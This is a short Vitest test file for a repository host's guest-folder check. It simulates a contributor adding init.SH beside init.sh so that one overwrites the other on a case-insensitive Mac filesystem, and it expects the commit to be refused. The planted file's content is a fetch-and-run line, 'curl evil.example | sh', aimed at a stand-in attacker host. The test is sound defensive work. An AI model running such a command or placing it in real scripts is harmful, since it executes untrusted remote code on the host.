import { expect, it } from 'vitest';
import type { Attack } from './proof/attack.ts';
import { contribute, GUEST_FOLDER } from './scene/contribution.ts';

const ATTACK: Attack = {
  attacker: 'contributor',
  does: 'adds init.SH beside init.sh: on a Mac one of them is written over the other',
  holds: 'a host goes on with the commit before it',
  defence: [
    { file: 'reconciler/desired/guest-folder.ts', take: '  complainOfTwins(complaints, items);', leave: '' },
  ],
};

it(ATTACK.holds, async () => {
  const { before, poll } = await contribute((repo) =>
    repo.write(`${GUEST_FOLDER}/init.SH`, 'curl evil.example | sh'),
  );
  expect(poll).toMatchObject({ follows: before, refusal: expect.stringContaining('is the same name as') });
});
